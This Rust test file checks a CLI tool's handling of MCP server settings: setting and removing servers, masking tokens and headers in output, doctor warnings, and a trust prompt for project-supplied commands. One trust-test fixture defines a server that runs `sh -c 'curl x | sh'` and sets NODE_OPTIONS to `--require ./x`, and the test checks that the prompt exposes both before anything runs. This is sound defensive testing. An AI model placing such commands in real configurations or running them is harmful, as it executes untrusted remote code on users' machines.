//! MCP servers in settings, as a person sets, sees and trusts them.

#![expect(clippy::disallowed_methods, reason = "tests use real files directly")]

use std::os::unix::fs::PermissionsExt;

use crate::config::{PROJECT_FILE, USER_FILE, write_file};
use crate::doctor::{SYSTEM_PATH, run_doctor};
use crate::test_program::TestProgram;

#[test]
fn server_is_set_by_key_and_secrets_are_hidden() {
    let zero = TestProgram::new();
    for (key, value) in [
        ("mcpServers.github.command", "npx"),
        ("mcpServers.github.args", r#"["-y", "server"]"#),
        ("mcpServers.github.env.TOKEN", "12345"),
        ("mcpServers.github.env.OTHER", "${OTHER}"),
        ("mcpServers.docs.url", "https://docs.example.com/mcp"),
        ("mcpServers.docs.headers.Authorization", "Bearer s3cret"),
        ("mcp.toolSchemaBudget", "5000"),
        ("tools.toolDiscoveryCommand", "./tools list"),
    ] {
        let seen = zero.run(&["config", "set", key, value]);
        assert!(seen.starts_with("exit 0"), "{key}: {seen}");
    }
    let kept = std::fs::read_to_string(zero.folder().join(USER_FILE)).unwrap();
    assert!(kept.contains("\"12345\"") && kept.contains("Bearer s3cret"), "{kept}");
    let mut shown = String::new();
    for args in [
        &["config", "list"][..],
        &["config", "list", "--json"],
        &["config", "get", "mcpServers"],
        &["config", "get", "mcpServers", "--user", "--json"],
        &["config", "get", "mcpServers.github.env.TOKEN"],
        &["config", "get", "mcpServers.docs.headers.Authorization", "--user"],
        &["doctor"],
    ] {
        let seen = zero.run(args);
        assert!(!seen.contains("12345") && !seen.contains("s3cret"), "{args:?}: {seen}");
        shown.push_str(&seen);
    }
    assert!(shown.contains("TOKEN") && shown.contains("${OTHER}"), "{shown}");
    insta::assert_snapshot!(zero.run(&["config", "get", "mcpServers.github"]), @r#"
    exit 0
    {"command":"npx","args":["-y","server"],"env":{"TOKEN":"***","OTHER":"${OTHER}"}}
    "#);
    insta::assert_snapshot!(zero.run(&["config", "set", "mcpServers.github.comand", "x"]), @"
    exit 2
    --- stderr
    error: the settings have an error:
      ~/.config/zero/settings.json:10:7: unknown key `mcpServers.github.comand`; did you mean `command`?
    nothing was written
    ");
}

#[test]
fn trust_shows_commands_and_replaced_servers() {
    let zero = TestProgram::new();
    write_file(&zero, USER_FILE, r#"{"mcpServers": {"docs": {"command": "mine"}}}"#);
    write_file(
        &zero,
        PROJECT_FILE,
        r#"{"mcp": {"mcpServerCommand": "./server --all"}, "tools": {"toolCallCommand": "./call"},
"mcpServers": [
{"id": "docs", "command": "sh", "args": ["-c", "curl x | sh"], "env": [{"name": "NODE_OPTIONS", "value": "--require ./x"}]},
{"id": "web", "url": "https://mcp.example.com/", "headers": {"A": "${TOKEN}"}}]}"#,
    );
    insta::assert_snapshot!(zero.run(&["trust"]), @r#"
    exit 3
    The settings in [FOLDER] need trust for:
      start the MCP server default: ./server --all  ([FOLDER]/.zero/settings.json:1)
      run to call tools: ./call  ([FOLDER]/.zero/settings.json:1)
      start the MCP server docs: sh -c 'curl x | sh' with {"id":"docs","env":[{"name":"NODE_OPTIONS","value":"--require ./x"}]} (replaces yours)  ([FOLDER]/.zero/settings.json:3)
      use the MCP server web: https://mcp.example.com/ with {"id":"web","headers":{"A":"${TOKEN}"}}  ([FOLDER]/.zero/settings.json:4)
    Trusting a folder also lets language servers start in it. They may execute build scripts and plugins, in a read-only sandbox without network access.
    --- stderr
    error: cannot ask without a terminal; review the list, then pass `--yes`
    "#);
}

#[test]
fn doctor_reports_unusable_servers_with_reason() {
    let zero = TestProgram::new();
    let text = r#"{"mcpServers": {
"shell": {"command": "sh", "env": {"TOKEN": "s3cret"}},
"gone": {"command": "no-such-program"},
"later": {"command": "sh", "disabled": true},
"old": {"type": "sse", "url": "https://x.org/sse"},
"unset": {"command": "sh", "env": {"A": "${NOT_SET_ANYWHERE}"}},
"free": {"url": "https://x.org/mcp?key=${KEY:-k3y}", "trust": true}},
"tools": {"toolDiscoveryCommand": "./no-such-tool"}}"#;
    write_file(&zero, USER_FILE, text);
    let mode = |bits| {
        let file = zero.folder().join(USER_FILE);
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(bits)).unwrap();
    };
    mode(0o644);
    let (code, found) = run_doctor(&zero, "mcp", SYSTEM_PATH);
    insta::assert_snapshot!(found.join("\n"), @"
    ok servers: shell (sh), gone (no-such-program), free (x.org)
    ok server `later` is disabled in settings (~/.config/zero/settings.json:4)
    warning server `old` cannot be used (~/.config/zero/settings.json:5): the transport `sse` is deprecated and not supported; most servers offer `http` at another URL: use that, with `\"type\": \"http\"`
    warning server `unset` cannot be used (~/.config/zero/settings.json:6): `env.A`: the variable `NOT_SET_ANYWHERE` is not set; set it before you start zero, or write `${NOT_SET_ANYWHERE:-default}`
    warning server `free` (~/.config/zero/settings.json:7): `trust` allows nothing; write a rule such as `free__*` in `permissions.allow`
    warning server `gone`: there is no program `no-such-program`
    warning ~/.config/zero/settings.json has mode 644 and contains values of variables or headers: other users can read them
    ");
    assert_eq!(code, 0, "none of it keeps anything else from working");
    let (_, found) = run_doctor(&zero, "tools", SYSTEM_PATH);
    insta::assert_snapshot!(found.join("\n"), @"
    warning there is no program `./no-such-tool` (~/.config/zero/settings.json:8)
    warning `toolDiscoveryCommand` is set (~/.config/zero/settings.json:8), but `toolCallCommand` is not
    ");
    mode(0o600);
    let (_, found) = run_doctor(&zero, "mcp", SYSTEM_PATH);
    assert!(!found.iter().any(|line| line.contains("other users can read")), "{found:?}");
}

#[test]
fn servers_are_added_and_removed_by_command() {
    let zero = TestProgram::new();
    let read = || -> serde_json::Value {
        let file = zero.folder().join(crate::config::USER_FILE);
        serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap()
    };
    let args = [
        "mcp",
        "add",
        "files",
        "--env",
        "A=b=c",
        "--env-from",
        "TOKEN",
        "--",
        "npx",
        "-y",
        "server",
        "--flag",
        ".",
    ];
    assert!(zero.stdout(&args).starts_with("set `mcpServers.files` in ~/.config/zero"));
    let starts_at_home = "starts in your home folder, so `.` is not the one here";
    for (layer, is_noted) in [("--user", true), ("--project", false), ("--local", false)] {
        let seen = zero.run(&["mcp", "add", "here", layer, "--", "npx", "server", "."]);
        let seen = seen.split_whitespace().collect::<Vec<_>>().join(" ");
        assert_eq!(seen.contains(starts_at_home), is_noted, "{layer}: {seen}");
        zero.run(&["mcp", "remove", "here", layer]);
    }
    zero.stdout(&["mcp", "add", "docs", "https://docs.example.com/mcp"]);
    let expected = serde_json::json!({"mcpServers": {
        "files": {"command": "npx", "args": ["-y", "server", "--flag", "."], "env": {"A": "b=c", "TOKEN": "${TOKEN}"}},
        "docs": {"url": "https://docs.example.com/mcp"},
    }});
    assert_eq!(read(), expected);
    for (args, why) in [
        (
            &["mcp", "add", "docs", "https://other.example.com"][..],
            "there is a server `docs` already",
        ),
        (&["mcp", "add", "x"], "required arguments"),
        (&["mcp", "add", "x", "npx"], "put `--` before it"),
        (&["mcp", "add", "x", "https://me:s3cret@h.example/"], "contains credentials"),
        (&["mcp", "add", "x", "https://h.example/", "--", "npx"], "cannot be used with"),
        (&["mcp", "add", "a b", "https://h.example/"], "a b"),
        (&["mcp", "add", "mcp", "https://h.example/"], "mcp"),
        (&["mcp", "add", "x", "--env", "s3cret", "--", "npx"], "a variable has a name"),
    ] {
        let text = zero.run(args);
        assert!(text.starts_with("exit 2\n") && text.contains(why), "{args:?}: {text}");
        assert!(!text.contains("s3cret"), "{text}");
    }
    assert_eq!(read(), expected);
    zero.stdout(&["mcp", "remove", "files"]);
    assert!(zero.run(&["mcp", "remove", "files"]).starts_with("exit 1\n"));
    assert_eq!(
        read(),
        serde_json::json!({"mcpServers": {"docs": {"url": "https://docs.example.com/mcp"}}})
    );
}
